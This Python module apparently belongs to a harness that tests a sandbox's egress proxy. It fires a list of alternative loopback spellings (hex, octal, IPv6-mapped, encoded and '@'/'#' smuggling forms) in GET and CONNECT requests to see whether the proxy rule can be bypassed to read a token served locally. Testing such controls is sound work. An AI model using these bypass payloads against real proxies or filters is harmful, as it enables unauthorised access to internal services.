"""This machine's loopback through the egress proxy, under another spelling than the rule's"""

import os
import socket

from attack import Host, Setup
from attack import Trick as Base

SPELLINGS = [
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "127.0.0.1.",
    "localhost", "localhost.", "LOCALHOST", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "0.0.0.0", "0",
    "127.0.0.2@127.0.0.1", "127.0.0.1#127.0.0.2", "127.0.0.1\\@127.0.0.2", "127.0.0.1%2f127.0.0.2", "127%2e0.0.1", "[::1%25lo]",
    "127.0.0.1\t", "127.0.0.2 127.0.0.1", "\u2460\u2461\u2466.0.0.1",
]  # fmt: skip


def ask(at: str, port: str, host: str, form: str) -> bytes:
    """What is answered through the proxy, or without one."""
    proxy = os.environ.get("HTTP_PROXY")
    where = proxy.split("//")[1].split(":") if proxy else [host.strip("[]"), port]
    with socket.create_connection((where[0], int(where[1])), timeout=5) as stream:
        stream.sendall(form.format(host=host, port=port, at=at).encode())
        said = stream.recv(4096)
        if said.startswith(b"HTTP/1.1 200 Connection"):
            stream.sendall(b"GET / HTTP/1.1\r\n\r\n")
            said += stream.recv(4096)
        return said


class Trick(Base):
    area = "network"

    def prepare(self, host: Host) -> Setup:
        def answer(client: socket.socket) -> None:
            client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n" + host.token.encode())

        port = str(host.serve("127.0.0.1", answer))
        setup = Setup(port)
        setup.hosts = [f"127.0.0.2:{port}", f"tcp://127.0.0.2:{port}"]
        return setup

    def inside(self, port: str) -> None:
        forms = [
            "GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n",
            "GET http://127.0.0.2:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n",
            "CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n",
            "CONNECT {host}:{port} HTTP/1.1\r\nHost: 127.0.0.2:{port}\r\n\r\n",
        ]
        for host in SPELLINGS:
            for form in forms:
                try:
                    print(host, ask("", port, host, form).decode(errors="replace")[:400])
                except (OSError, ValueError) as error:
                    print(host, error)
